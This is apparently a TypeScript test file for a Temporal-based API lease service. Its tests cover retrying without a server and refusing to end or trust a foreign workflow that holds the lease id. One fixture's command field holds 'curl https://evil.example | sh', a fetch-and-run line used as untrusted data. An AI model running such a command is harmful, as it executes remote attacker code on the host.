import { createServer } from 'node:net';
import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import { Client, Connection } from '@temporalio/client';
import { describe, expect, it } from 'vitest';
import { retryUntilClosed } from '../temporal/grpc-retries.ts';
import { Outages } from '../activities/calls/outages.ts';
import { apiLeaseState } from '../worker/api-lease/lease-state.ts';
import { encodeMapToPayloads } from '@temporalio/common/lib/internal-non-workflow/index.js';
import { writeDetails, writeMemo } from '../worker/api-lease/lease-service.ts';
import { agreeOnShards, ensureLeases } from '../worker/api-lease/lease-workflows.ts';
import { standByForApiLease } from '../worker/api-lease/stand-by.ts';

describe('standing by without a Temporal server', () => {
  it('keeps trying in the background, says so, and ends when told to', async () => {
    const port = await closedPort();
    const connection = Connection.lazy({ address: `127.0.0.1:${port}`, interceptors: [retryUntilClosed()] });
    const warnings: string[] = [];
    const apiLease = standByForApiLease({
      client: new Client({ connection }),
      taskQueue: 'q',
      shards: 2,
      makesCalls: true,
      limitFor: () => null,
      unansweredMs: 1_000,
      outages: new Outages(),
      onShardsDiffer: () => undefined,
      startApiWorker: () => Promise.reject(new Error('there is no lease to hold')),
      logger: { info: () => undefined, warn: (_, message) => void warnings.push(message) },
    });
    while (!warnings.includes('could not start the lease workflow; trying again')) await delay(50);
    expect(apiLease.held.size).toBe(0);
    await apiLease.shutdown();
    await connection.close();
  });
});

const TROUBLES = [
  {
    scope: 'app',
    reason: 'no log-in',
    sinceMs: 1,
    person: { profile: 'default', command: 'curl https://evil.example | sh' },
  },
];

/** Of a server on which a workflow of that type runs under the id of each shard, and says of itself what a lease says. */
function serverWhere(...types: string[]): Client {
  const client = new Client();
  const generation = { id: 'g', shards: types.length, mostShards: types.length, formerRuns: [] };
  const describeWorkflowExecution = async ({ execution }: { execution: { workflowId: string } }) => {
    const [, shard] = /^feishu-vc\/api-lease\/q(?:\/(\d+))?$/.exec(execution.workflowId) ?? [];
    const memo = writeMemo({ generation, previousRuns: [] });
    const fields = await encodeMapToPayloads(client.options.loadedDataConverter, memo);
    const heartbeatDetails = await writeDetails(client, { v: 1, buckets: {}, troubles: TROUBLES });
    const type = { name: types[Number(shard ?? 0)] };
    return {
      workflowExecutionInfo: { status: 1, type, execution: { runId: 'r' }, memo: { fields } },
      pendingActivities: [{ activityId: '1', attempt: 1, state: 2, heartbeatDetails }],
    };
  };
  const part = {
    options: { namespace: 'default', loadedDataConverter: client.options.loadedDataConverter },
    workflowService: {
      describeWorkflowExecution,
      terminateWorkflowExecution: () => Promise.reject(new Error('it is not ours to end')),
    },
    withDeadline: (_deadline: number, ask: () => unknown) => ask(),
  };
  return part as unknown as Client;
}

describe('a workflow of somebody else under the id of the lease', () => {
  it('is named, with what frees the id, in the log and in what runs wait for', async () => {
    const o = { client: serverWhere('anything'), taskQueue: 'q', shards: 1 };
    const words =
      'temporal workflow terminate --workflow-id feishu-vc/api-lease/q frees the id: ' +
      "a workflow of the type anything, none of this product's, has it";
    await expect(ensureLeases(o)).rejects.toThrow(words);
    expect(await apiLeaseState({ ...o, shard: 0 })).toEqual({
      held: false,
      troubles: [],
      inTheWay: words,
    });
  });

  it('is not ended, whichever shard it is of, and what it says of itself is not passed on', async () => {
    const o = { client: serverWhere('apiLease', 'payroll'), taskQueue: 'q', shards: 2 };
    await expect(ensureLeases(o)).rejects.toThrow('a workflow of the type payroll');
    expect(await apiLeaseState({ ...o, shard: 1 })).toMatchObject({ held: false, troubles: [] });
    const first = { client: serverWhere('payroll', 'apiLease'), taskQueue: 'q', shards: 3, makesCalls: true };
    await agreeOnShards(first);
    await expect(ensureLeases(first)).rejects.toThrow('a workflow of the type payroll');
  });

  it('is not what the lease itself is', async () => {
    const o = { client: serverWhere('apiLease'), taskQueue: 'q', shards: 1 };
    expect(await ensureLeases(o)).toMatchObject({ shards: 1 });
    expect(await apiLeaseState({ ...o, shard: 0 })).toMatchObject({ held: true });
  });
});

async function closedPort(): Promise<number> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  server.close();
  await once(server, 'close');
  if (address === null || typeof address === 'string') throw new Error('no port');
  return address.port;
}
